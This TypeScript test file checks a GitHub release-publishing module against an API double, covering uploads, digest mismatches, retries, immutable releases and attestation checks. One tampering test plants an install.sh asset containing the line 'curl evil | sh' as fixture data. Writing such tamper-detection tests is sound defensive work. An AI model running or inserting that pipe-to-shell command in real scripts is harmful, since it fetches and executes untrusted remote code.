import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import type { Logger } from '../../src/core/logger.js';
import type { RetryPolicy } from '../../src/core/retry.js';
import { createGitHubClient } from '../../src/github/attestations.js';
import { githubReleases, type ReleasesPort } from '../../src/github/releases.js';
import { draftRelease, MAX_RELEASE_NOTES_CHARACTERS, NOTES_BLOCK_END, NOTES_BLOCK_START, publishDraft, publishRelease, withVerificationBlock, type PublishAsset } from '../../src/release/publish.js';
import { RELEASE_PREDICATE_TYPE, startGitHubApi, type GitHubApiDouble, type StoredRelease } from '../support/github/index.js';

const POLICY: RetryPolicy = { retries: 4, minDelayMs: 1, maxDelayMs: 4, factor: 2, budgetMs: 60_000, timeoutMs: 5000 };
const OWNER = 'octo-org';
const TOKEN = 'ghs_0123456789abcdefSECRET';

function recordingLogger(): Logger & { lines: string[] } {
  const lines: string[] = [];
  return { lines, info: (message) => void lines.push(message), debug() {}, warn: (message) => void lines.push(`warn: ${message}`) };
}

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

describe('publishing to a GitHub release (against the API double)', () => {
  let api: GitHubApiDouble;
  let dir: string;
  let repoNumber = 0;
  let repo: string;
  let releases: ReleasesPort;
  let sleeps: number[];
  before(async () => {
    api = await startGitHubApi();
    dir = await mkdtemp(join(tmpdir(), 'trust-kit-publish-'));
  });
  after(async () => {
    await api.close();
    await rm(dir, { recursive: true, force: true });
  });
  beforeEach(() => {
    repoNumber += 1;
    repo = `repo-${repoNumber}`;
    sleeps = [];
    const client = createGitHubClient({ token: TOKEN, apiUrl: api.url, serverUrl: 'https://github.com' });
    releases = githubReleases({ client, owner: OWNER, repo, retry: POLICY, sleep: async (ms) => void sleeps.push(ms) });
  });
  afterEach(() => assert.equal(api.faults.pending(), 0, 'every injected fault was met'));

  const files = async (contents: Record<string, string>): Promise<PublishAsset[]> => {
    const assets: PublishAsset[] = [];
    for (const [name, text] of Object.entries(contents)) {
      const path = join(dir, `${repo}-${name}`);
      await writeFile(path, text);
      assets.push({ path, name, contentType: name.endsWith('.json') ? 'application/json' : 'application/octet-stream' });
    }
    return assets;
  };
  const releaseOf = (tag = 'v1.0.0'): StoredRelease => {
    const found = api.state.releases.forTag(api.state.repository(OWNER, repo), tag);
    assert.ok(found, `the double has release ${tag}`);
    return found;
  };
  const requestsSince = (start: number, route: string): number => api.records.slice(start).filter((record) => record.route === route).length;
  const publish = (assets: PublishAsset[], notesBlock = 'Verify with `sha256sum -c SHA256SUMS`.', logger: Logger = recordingLogger()) => publishRelease({ tag: 'v1.0.0', assets, notesBlock }, { releases, logger });

  test('creates a draft, uploads every asset with its content type and label, then publishes once with the block in the notes', async () => {
    const assets = await files({ 'app.tgz': 'app bytes', 'SHA256SUMS': 'sums', 'sbom.spdx.json': '{}' });
    const start = api.records.length;
    const result = await publish(assets);
    assert.equal(result.outcome, 'published');
    assert.deepEqual(result.assets.map((asset) => [asset.name, asset.outcome, asset.digest]), [['app.tgz', 'uploaded', `sha256:${sha256('app bytes')}`], ['SHA256SUMS', 'uploaded', `sha256:${sha256('sums')}`], ['sbom.spdx.json', 'uploaded', `sha256:${sha256('{}')}`]]);
    const release = releaseOf();
    assert.equal(release.draft, false);
    assert.deepEqual(release.assets.map((asset) => [asset.name, asset.label, asset.contentType, asset.bytes.toString()]), [['app.tgz', 'app.tgz', 'application/octet-stream', 'app bytes'], ['SHA256SUMS', 'SHA256SUMS', 'application/octet-stream', 'sums'], ['sbom.spdx.json', 'sbom.spdx.json', 'application/json', '{}']]);
    assert.equal(release.body, `${NOTES_BLOCK_START}\nVerify with \`sha256sum -c SHA256SUMS\`.\n${NOTES_BLOCK_END}`);
    // Created as a draft, published by exactly one update that came after the last upload.
    const routes = api.records.slice(start).map((record) => record.route);
    assert.equal((api.records.slice(start).find((record) => record.route === 'releases.create')?.body as { draft?: unknown } | undefined)?.draft, true);
    assert.equal(routes.filter((route) => route === 'releases.update').length, 1);
    assert.ok(routes.lastIndexOf('releases.uploadAsset') < routes.indexOf('releases.update'));
    assert.equal(api.records.slice(start).find((record) => record.route === 'releases.uploadAsset')?.headers.authorization, `token ${TOKEN}`);
  });

  test('in a repository with many releases, the look for a racing run\'s draft after creating one reads one page of releases, not ten', async () => {
    const repository = api.state.repository(OWNER, repo);
    for (let index = 0; index < 950; index += 1) {
      api.state.releases.releases.push({ id: api.state.newId(), repository, tagName: `old-${index}`, commit: '0'.repeat(40), name: `old-${index}`, body: '', draft: false, immutable: false, prerelease: false, publishedAt: new Date(0).toISOString(), assets: [] });
    }
    const start = api.records.length;
    await publish(await files({ 'app.tgz': 'app bytes' }));
    const routes = api.records.slice(start).map((record) => record.route);
    const created = routes.indexOf('releases.create');
    assert.ok(created !== -1);
    assert.equal(routes.slice(0, created).filter((route) => route === 'releases.list').length, 10, 'the look-up before creating reads every page there is, up to ten');
    assert.equal(routes.slice(created).filter((route) => route === 'releases.list').length, 1, 'the racing draft was made seconds apart: it is among the newest 100');
    assert.equal(releaseOf().draft, false);
  });

  test('reads back the name GitHub gives an asset, and a re-run finds it by its label', async () => {
    const assets = await files({ 'my app (linux).tgz': 'renamed' });
    const logger = recordingLogger();
    const first = await publish(assets, 'block', logger);
    assert.equal(first.assets[0]?.githubName, 'my.app.linux.tgz');
    assert.ok(logger.lines.some((line) => line.includes('renamed my app (linux).tgz to my.app.linux.tgz')));
    const start = api.records.length;
    const second = await publish(assets);
    assert.equal(second.assets[0]?.outcome, 'present');
    assert.equal(requestsSince(start, 'releases.uploadAsset'), 0);
  });

  test('a re-run skips assets with the same name and digest, and replaces only its own block in the notes', async () => {
    const assets = await files({ 'app.tgz': 'same', 'SHA256SUMS': 'sums' });
    await publish(assets, 'first block');
    const release = releaseOf();
    release.body = `Hand-written notes.\n\n${release.body}\n\nA footer someone added.`;
    const start = api.records.length;
    const result = await publish(assets, 'second block');
    assert.equal(result.outcome, 'updated');
    assert.deepEqual(result.assets.map((asset) => asset.outcome), ['present', 'present']);
    assert.equal(requestsSince(start, 'releases.uploadAsset'), 0);
    assert.equal(release.body, `Hand-written notes.\n\n${NOTES_BLOCK_START}\nsecond block\n${NOTES_BLOCK_END}\n\nA footer someone added.`);
    const again = api.records.length;
    await publish(assets, 'second block');
    assert.equal(requestsSince(again, 'releases.update'), 0, 'unchanged notes are not sent again');
  });

  test('an existing asset with another digest is PUBLISH_ASSET_DIGEST_MISMATCH and nothing is overwritten or published', async () => {
    await publish(await files({ 'app.tgz': 'first build' }));
    const release = releaseOf();
    release.draft = true;
    const start = api.records.length;
    await assert.rejects(publish(await files({ 'app.tgz': 'other build' })), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'PUBLISH_ASSET_DIGEST_MISMATCH');
      assert.match(error.message, /app\.tgz/);
      assert.ok(error.message.includes(`sha256:${sha256('other build')}`));
      return true;
    });
    assert.equal(release.assets[0]?.bytes.toString(), 'first build');
    assert.equal(requestsSince(start, 'releases.uploadAsset') + requestsSince(start, 'releases.deleteAsset') + requestsSince(start, 'releases.update'), 0);
  });

  test('assets a draft holds that this run does not publish (a run with other artifacts left them) are named in a warning, not passed over in silence', async () => {
    await publish(await files({ 'app-1.tgz': 'old build', 'SHA256SUMS': 'old sums' }));
    const release = releaseOf();
    release.draft = true;
    release.assets.splice(release.assets.findIndex((asset) => asset.name === 'SHA256SUMS'), 1);
    const logger = recordingLogger();
    await publish(await files({ 'app-2.tgz': 'new build', 'SHA256SUMS': 'new sums' }), 'block', logger);
    assert.ok(logger.lines.some((line) => /^warn: publish: release v1\.0\.0 also holds app-1\.tgz, which this run does not publish: its checksums file does not list it/.test(line)), logger.lines.join('\n'));
    const quiet = recordingLogger();
    await publish(await files({ 'app-1.tgz': 'old build', 'app-2.tgz': 'new build', 'SHA256SUMS': 'new sums' }), 'block', quiet);
    assert.deepEqual(quiet.lines.filter((line) => line.startsWith('warn:')), []);
  });

  test('an asset added to the draft after this run filled it (by another run or a person, after the gate looked) is PUBLISH_DRAFT_CHANGED naming it, and nothing is published', async () => {
    const assets = await files({ 'app.tgz': 'app bytes', 'SHA256SUMS': 'sums' });
    const drafted = await draftRelease({ tag: 'v1.0.0', assets, notesBlock: 'block' }, { releases, logger: recordingLogger() });
    assert.equal(drafted.kind, 'uploaded');
    if (drafted.kind !== 'uploaded') return;
    const release = releaseOf();
    release.assets.push({ id: api.state.newId(), name: 'install.sh', label: '', contentType: 'text/plain', bytes: Buffer.from('curl evil | sh\n'), state: 'uploaded' });
    await assert.rejects(publishDraft({ tag: 'v1.0.0', notesBlock: 'block' }, drafted, { releases, logger: recordingLogger() }), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'PUBLISH_DRAFT_CHANGED');
      assert.match(error.message, /changed after this run uploaded to it, so it is not published: install\.sh was added$/);
      return true;
    });
    assert.equal(releaseOf().draft, true);
  });

  test('an asset without GitHub\'s digest field is downloaded and hashed to compare', async () => {
    const assets = await files({ 'app.tgz': 'old asset' });
    await publish(assets);
    const start = api.records.length;
    const noDigest = { ...releases, listAssets: async (id: number) => (await releases.listAssets(id)).map((asset) => ({ ...asset, digest: undefined })) };
    const same = await publishRelease({ tag: 'v1.0.0', assets, notesBlock: 'Verify with `sha256sum -c SHA256SUMS`.' }, { releases: noDigest, logger: recordingLogger() });
    assert.equal(same.assets[0]?.outcome, 'present');
    assert.equal(requestsSince(start, 'releases.getAsset'), 1);
    // The same size with other bytes: only hashing the download tells them apart.
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets: await files({ 'app.tgz': 'new asset' }), notesBlock: 'x' }, { releases: noDigest, logger: recordingLogger() }), { code: 'PUBLISH_ASSET_DIGEST_MISMATCH' });
    assert.equal(requestsSince(start, 'releases.getAsset'), 2);
  });

  test('an upload GitHub stored with another digest than the bytes sent is deleted again, not left to block every re-run', async () => {
    const assets = await files({ 'app.tgz': 'sent bytes' });
    const changed = { ...releases, uploadAsset: async (...args: Parameters<ReleasesPort['uploadAsset']>) => ({ ...(await releases.uploadAsset(...args)), digest: `sha256:${'e'.repeat(64)}` }) };
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets, notesBlock: 'x' }, { releases: changed, logger: recordingLogger() }), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'PUBLISH_ASSET_DIGEST_MISMATCH');
      assert.match(error.message, /GitHub stored the upload of .*app\.tgz as app\.tgz with the digest sha256:e{64}, not the sha256:[0-9a-f]{64} sent: it was deleted again/);
      return true;
    });
    assert.deepEqual(releaseOf().assets.map((asset) => asset.name), []);
    const result = await publish(assets);
    assert.deepEqual(result.assets.map((asset) => asset.outcome), ['uploaded']);
  });

  test('a file that changes while it is uploaded is PUBLISH_UPLOAD_UNSETTLED, not retried as a network failure, and nothing of it is left on the draft', async () => {
    const assets = await files({ 'app.tgz': 'the bytes hashed' });
    // Rewritten after draftRelease hashed it, before its upload reads it.
    const rewriting: ReleasesPort = {
      ...releases,
      listAssets: async (id) => {
        await writeFile(assets[0]?.path ?? '', 'a longer file written meanwhile');
        return releases.listAssets(id);
      },
    };
    const start = api.records.length;
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets, notesBlock: 'x' }, { releases: rewriting, logger: recordingLogger() }), (error: Error & { code?: string; hint?: string }) => {
      assert.equal(error.code, 'PUBLISH_UPLOAD_UNSETTLED', error.message);
      assert.match(error.message, /app\.tgz changed while it was being published/);
      return true;
    });
    assert.deepEqual(sleeps, [], 'no retry: reading the file again gives the same answer');
    assert.ok(requestsSince(start, 'releases.uploadAsset') <= 1);
    assert.deepEqual(releaseOf().assets.filter((asset) => asset.state === 'uploaded').map((asset) => asset.name), []);
  });

  test('instructions too long for GitHub\'s 125,000-character notes are pointed to in the notes instead, and the user\'s notes are kept', async () => {
    const long = `${'cosign verify-blob x --bundle x.sigstore.json\n'.repeat(3000)}`;
    const result = await publish(await files({ 'app.tgz': 'app' }), long);
    assert.equal(result.outcome, 'published');
    const body = releaseOf().body;
    assert.ok(body.length <= MAX_RELEASE_NOTES_CHARACTERS, `${body.length} characters`);
    assert.match(body, /too long for the release notes.*VERIFY\.md/s);

    // A draft with notes of its own: they are kept, the block beside them points to VERIFY.md.
    const mine = 'Highlights: faster.\n'.repeat(100);
    const tag = 'v2.0.0';
    await releases.createDraft(tag, mine);
    await publishRelease({ tag, assets: await files({ 'app2.tgz': 'app2' }), notesBlock: long }, { releases, logger: recordingLogger() });
    const kept = releaseOf(tag).body;
    assert.ok(kept.startsWith(mine.trimEnd()) && kept.length <= MAX_RELEASE_NOTES_CHARACTERS);
    assert.match(kept, /VERIFY\.md/);
  });

  test('notes of the user\'s own that leave no room for the block are PUBLISH_NOTES_TOO_LONG before anything is uploaded', async () => {
    await releases.createDraft('v1.0.0', 'x'.repeat(MAX_RELEASE_NOTES_CHARACTERS));
    const start = api.records.length;
    await assert.rejects(publish(await files({ 'app.tgz': 'app' })), (error: Error & { code?: string; hint?: string }) => {
      assert.equal(error.code, 'PUBLISH_NOTES_TOO_LONG');
      assert.match(error.hint ?? '', /shorten/);
      return true;
    });
    assert.equal(requestsSince(start, 'releases.uploadAsset'), 0);
  });

  test('a file that went away before it was published is PUBLISH_UPLOAD_UNSETTLED naming it, before any draft is made', async () => {
    const assets = await files({ 'app.tgz': 'app', 'SHA256SUMS': 'sums' });
    await rm(assets[0]?.path ?? '');
    const start = api.records.length;
    await assert.rejects(publish(assets), (error: Error & { code?: string; hint?: string }) => {
      assert.equal(error.code, 'PUBLISH_UPLOAD_UNSETTLED', error.message);
      assert.match(error.message, /cannot read .*repo-\d+-app\.tgz to publish it: ENOENT/);
      assert.match(error.hint ?? '', /re-run/);
      return true;
    });
    assert.equal(api.records.length, start, 'GitHub was not asked anything');

    // Gone after it was hashed, before its upload read it.
    const again = await files({ 'app.tgz': 'app' });
    const removing: ReleasesPort = {
      ...releases,
      listAssets: async (id) => {
        await rm(again[0]?.path ?? '', { force: true });
        return releases.listAssets(id);
      },
    };
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets: again, notesBlock: 'x' }, { releases: removing, logger: recordingLogger() }), { code: 'PUBLISH_UPLOAD_UNSETTLED' });
  });

  test('a 5xx mid-upload leaves a starter asset: it is deleted and the upload retried, and the release published once', async () => {
    api.faults.brokenUpload();
    api.faults.serverError(503, { route: 'releases.uploadAsset' });
    const assets = await files({ 'a.tgz': 'a', 'b.tgz': 'b' });
    const start = api.records.length;
    const result = await publish(assets);
    assert.equal(result.outcome, 'published');
    const release = releaseOf();
    assert.deepEqual(release.assets.map((asset) => [asset.name, asset.state, asset.bytes.toString()]), [['a.tgz', 'uploaded', 'a'], ['b.tgz', 'uploaded', 'b']]);
    assert.equal(requestsSince(start, 'releases.deleteAsset'), 1);
    assert.equal(requestsSince(start, 'releases.update'), 1);
    assert.ok(sleeps.length >= 2, 'the 502 and the 503 were retried after a backoff');
  });

  test('a 502 after the whole asset was stored (its answer lost): the retry meets already_exists, finds the asset with this digest and keeps it, uploading and deleting nothing more', async () => {
    api.faults.lostUpload();
    const assets = await files({ 'a.tgz': 'a', 'b.tgz': 'b' });
    const start = api.records.length;
    const result = await publish(assets);
    assert.equal(result.outcome, 'published');
    assert.deepEqual(releaseOf().assets.map((asset) => [asset.name, asset.state, asset.bytes.toString()]), [['a.tgz', 'uploaded', 'a'], ['b.tgz', 'uploaded', 'b']]);
    assert.deepEqual(api.records.slice(start).filter((record) => record.route === 'releases.uploadAsset').map((record) => record.status), [502, 422, 201]);
    assert.equal(requestsSince(start, 'releases.deleteAsset'), 0);
  });

  test('429 with Retry-After is waited out', async () => {
    api.faults.rateLimited(3, { route: 'releases.uploadAsset' });
    await publish(await files({ 'a.tgz': 'a' }));
    assert.ok(sleeps.some((ms) => ms >= 3000), `waited at least Retry-After: ${sleeps.join(', ')}`);
  });

  test('retries give up within the budget with GITHUB_RELEASE_API_FAILED, and a re-run after that partial failure uploads only what is missing', async () => {
    const assets = await files({ 'a.tgz': 'a', 'b.tgz': 'b', 'c.tgz': 'c' });
    // a.tgz goes up; every attempt at b.tgz fails (the first try and four retries).
    const upload = api.requestsTo('releases.uploadAsset').length;
    let calls = 0;
    const failing: ReleasesPort = {
      ...releases,
      uploadAsset: async (release, asset) => {
        calls += 1;
        if (calls === 2) api.faults.serverError(500, { route: 'releases.uploadAsset', count: POLICY.retries + 1 });
        return releases.uploadAsset(release, asset);
      },
    };
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets, notesBlock: 'x' }, { releases: failing, logger: recordingLogger() }), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'GITHUB_RELEASE_API_FAILED');
      assert.match(error.message, /b\.tgz.*after 5 attempts: HTTP 500/);
      assert.ok(!error.message.includes(TOKEN));
      return true;
    });
    assert.equal(api.requestsTo('releases.uploadAsset').length - upload, 1 + POLICY.retries + 1);
    const release = releaseOf();
    assert.equal(release.draft, true, 'a partial release stays a draft');
    assert.deepEqual(release.assets.map((asset) => asset.name), ['a.tgz']);
    const start = api.records.length;
    const result = await publish(assets);
    assert.deepEqual(result.assets.map((asset) => asset.outcome), ['present', 'uploaded', 'uploaded']);
    assert.equal(requestsSince(start, 'releases.uploadAsset'), 2);
    assert.equal(requestsSince(start, 'releases.create'), 0);
    assert.equal(release.draft, false);
  });

  test('a published immutable release is checked, not changed: same assets exit quietly, a different or missing one is PUBLISH_IMMUTABLE_RELEASE_DIFFERS', async () => {
    api.state.repository(OWNER, repo).immutableReleases = true;
    const assets = await files({ 'app.tgz': 'immutable', 'SHA256SUMS': 'sums' });
    const first = await publish(assets);
    assert.equal(first.immutable, true);
    const release = releaseOf();
    assert.equal(release.immutable, true);
    // GitHub attested the release on publishing it, over every asset.
    const attestation = api.state.attestations.find((stored) => stored.predicateType === RELEASE_PREDICATE_TYPE && stored.repository.name === repo);
    assert.ok(attestation?.subjectDigests.includes(`sha256:${sha256('immutable')}`));
    const start = api.records.length;
    const again = await publish(assets, 'another block');
    assert.equal(again.outcome, 'verified');
    assert.deepEqual(again.releaseAttestation, { predicateType: RELEASE_PREDICATE_TYPE, signatureVerified: false });
    const writes = api.records.slice(start).filter((record) => record.method !== 'GET');
    assert.deepEqual(writes, [], 'nothing was written to a published immutable release');
    await assert.rejects(publish(await files({ 'app.tgz': 'rebuilt', 'SHA256SUMS': 'sums', 'extra.txt': 'x' })), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'PUBLISH_IMMUTABLE_RELEASE_DIFFERS');
      assert.match(error.message, /app\.tgz differs/);
      assert.match(error.message, /extra\.txt is missing/);
      return true;
    });
  });

  test('after publishing an immutable release, GitHub\'s release attestation is fetched and must name the tag and every asset', async () => {
    api.state.repository(OWNER, repo).immutableReleases = true;
    const assets = await files({ 'a.tgz': 'a', 'b.tgz': 'b' });
    const verified: unknown[] = [];
    const result = await publishRelease({ tag: 'v1.0.0', assets, notesBlock: 'x' }, {
      releases,
      logger: recordingLogger(),
      verifyReleaseAttestation: async (bundle) => {
        verified.push(bundle);
        return JSON.parse(Buffer.from((bundle.dsseEnvelope as { payload: string }).payload, 'base64').toString('utf8')) as unknown;
      },
    });
    assert.deepEqual(result.releaseAttestation, { predicateType: RELEASE_PREDICATE_TYPE, signatureVerified: true });
    assert.equal(verified.length, 1);
  });

  test('a release attestation that leaves out an asset is PUBLISH_RELEASE_ATTESTATION_INVALID, and none at all PUBLISH_RELEASE_ATTESTATION_MISSING after the waits', async () => {
    api.state.repository(OWNER, repo).immutableReleases = true;
    api.state.releases.signer = (statement) => {
      const subjects = statement.subject as unknown[];
      const partial = { ...statement, subject: subjects.slice(0, -1) };
      return { mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json', dsseEnvelope: { payload: Buffer.from(JSON.stringify(partial)).toString('base64'), payloadType: 'application/vnd.in-toto+json', signatures: [] } };
    };
    try {
      await assert.rejects(publish(await files({ 'a.tgz': 'a', 'b.tgz': 'b' })), (error: Error & { code?: string }) => {
        assert.equal(error.code, 'PUBLISH_RELEASE_ATTESTATION_INVALID');
        assert.ok(error.message.includes(`no subject sha256:${sha256('b')}`));
        return true;
      });
    } finally {
      api.state.releases.signer = undefined;
    }
    repo = `${repo}-none`;
    const client = createGitHubClient({ token: TOKEN, apiUrl: api.url, serverUrl: 'https://github.com' });
    const none: ReleasesPort = { ...githubReleases({ client, owner: OWNER, repo, retry: POLICY }), listAttestations: async () => [] };
    api.state.repository(OWNER, repo).immutableReleases = true;
    const waited: number[] = [];
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets: await files({ 'a.tgz': 'a' }), notesBlock: 'x' }, { releases: none, logger: recordingLogger(), attestationWaitsMs: [5, 7], sleep: async (ms) => void waited.push(ms) }), { code: 'PUBLISH_RELEASE_ATTESTATION_MISSING' });
    assert.deepEqual(waited, [5, 7]);
  });

  test('the double refuses uploads to an immutable release as GitHub does', async () => {
    api.state.repository(OWNER, repo).immutableReleases = true;
    await publish(await files({ 'a.tgz': 'a' }));
    const release = releaseOf();
    const found = await releases.findRelease('v1.0.0');
    assert.ok(found);
    await assert.rejects(releases.uploadAsset(found, { name: 'late.tgz', label: 'late.tgz', contentType: 'application/octet-stream', size: 4, open: () => Readable.from([Buffer.from('late')]) }), { code: 'GITHUB_RELEASE_REJECTED' });
    await assert.rejects(releases.deleteAsset(release.assets[0]?.id ?? 0), { code: 'GITHUB_RELEASE_REJECTED' });
  });

  test('deleting an asset that is gone already (the answer to a delete that went through was lost, or another run deleted it) succeeds: what was asked for is done', async () => {
    const release = await releases.createDraft('v1.0.0', '');
    const asset = await releases.uploadAsset(release, { name: 'a.tgz', label: 'a.tgz', contentType: 'application/octet-stream', size: 1, open: () => Readable.from([Buffer.from('a')]) });
    await releases.deleteAsset(asset.id);
    await releases.deleteAsset(asset.id);
    assert.deepEqual(releaseOf().assets, []);
  });

  test('a 502 after GitHub did create the draft (its answer lost) makes no second draft: GitHub would take one, so the retry looks first and goes on with it', async () => {
    api.faults.lostCreate();
    const start = api.records.length;
    const result = await publish(await files({ 'a.tgz': 'a' }));
    assert.equal(result.outcome, 'published');
    const ofTag = api.state.releases.releases.filter((release) => release.repository.name === repo && release.tagName === 'v1.0.0');
    assert.equal(ofTag.length, 1, 'one release of the tag, not an empty draft left beside the published one');
    assert.deepEqual(ofTag[0]?.assets.map((asset) => asset.name), ['a.tgz']);
    assert.equal(requestsSince(start, 'releases.create'), 1);
  });

  test('a 422 already_exists on creating the release (another run was first and published it) finds that release and goes on', async () => {
    const assets = await files({ 'a.tgz': 'a' });
    let created = false;
    const racing: ReleasesPort = {
      ...releases,
      findRelease: async (tag) => (created ? releases.findRelease(tag) : undefined),
      createDraft: async (tag, body) => {
        created = true;
        // GitHub refuses a release of a tag a published release holds; another draft of it, it takes.
        await releases.updateRelease((await releases.createDraft(tag, body)).id, { publish: true });
        return releases.createDraft(tag, body);
      },
    };
    const result = await publishRelease({ tag: 'v1.0.0', assets, notesBlock: 'x' }, { releases: racing, logger: recordingLogger() });
    assert.equal(result.outcome, 'updated', 'the other run published it: this run adds to it');
    assert.equal(api.state.releases.releases.filter((release) => release.repository.name === repo).length, 1);
    assert.deepEqual(releaseOf().assets.map((asset) => asset.name), ['a.tgz']);
  });

  test('two assets of one name are PUBLISH_ASSET_NAME_CLASH before any request', async () => {
    const [asset] = await files({ 'a.tgz': 'a' });
    assert.ok(asset);
    const start = api.records.length;
    await assert.rejects(publish([asset, { ...asset }]), { code: 'PUBLISH_ASSET_NAME_CLASH' });
    await assert.rejects(publish([asset, { ...asset, name: 'A.tgz' }]), { code: 'PUBLISH_ASSET_NAME_CLASH', message: 'two release assets are named a.tgz and A.tgz, one name to GitHub, which compares asset names without case' });
    assert.equal(api.records.length, start);
  });

  test('an asset of the release whose name differs only in case (put there since the run looked) is PUBLISH_ASSET_NAME_CLASH naming both, not uploads retried into the same refusal', async () => {
    await publish(await files({ 'old.tgz': 'old' }));
    const [asset] = await files({ 'app.tgz': 'app' });
    assert.ok(asset);
    // A person uploads App.tgz between the listing of the release's assets and this run's upload.
    let listings = 0;
    const racing: ReleasesPort = {
      ...releases,
      listAssets: async (id) => {
        const listed = await releases.listAssets(id);
        listings += 1;
        if (listings === 1) api.state.releases.forTag(api.state.repository(OWNER, repo), 'v1.0.0')?.assets.push({ ...(releaseOf().assets[0] as StoredRelease['assets'][number]), id: 999_999, name: 'App.tgz', label: 'App.tgz' });
        return listed;
      },
    };
    const start = api.records.length;
    await assert.rejects(publishRelease({ tag: 'v1.0.0', assets: [asset], notesBlock: 'x' }, { releases: racing, logger: recordingLogger() }), {
      code: 'PUBLISH_ASSET_NAME_CLASH',
      message: new RegExp(`^release v1\\.0\\.0 holds an asset App\\.tgz, so GitHub refuses app\\.tgz \\(\\S*app\\.tgz\\): asset names that differ only in case are one name there$`),
    });
    assert.equal(requestsSince(start, 'releases.uploadAsset'), 1, 'one upload, not one per restart');
  });
});

describe('the verification block in release notes', () => {
  test('is appended to notes without one, and alone in empty notes', () => {
    assert.equal(withVerificationBlock('', 'b'), `${NOTES_BLOCK_START}\nb\n${NOTES_BLOCK_END}`);
    assert.equal(withVerificationBlock('Notes\n\n', 'b'), `Notes\n\n${NOTES_BLOCK_START}\nb\n${NOTES_BLOCK_END}`);
  });
  test('replaces only what is between its markers', () => {
    const notes = `before\n${NOTES_BLOCK_START}\nold\n${NOTES_BLOCK_END}\nafter`;
    assert.equal(withVerificationBlock(notes, 'new'), `before\n${NOTES_BLOCK_START}\nnew\n${NOTES_BLOCK_END}\nafter`);
  });
  test('a block cannot smuggle markers that would widen what the next run replaces', () => {
    const once = withVerificationBlock('keep', `x ${NOTES_BLOCK_END} y`);
    assert.equal(once.split(NOTES_BLOCK_END).length, 2);
    assert.equal(withVerificationBlock(`${once}\ntail`, 'z'), `keep\n\n${NOTES_BLOCK_START}\nz\n${NOTES_BLOCK_END}\ntail`);
  });
});
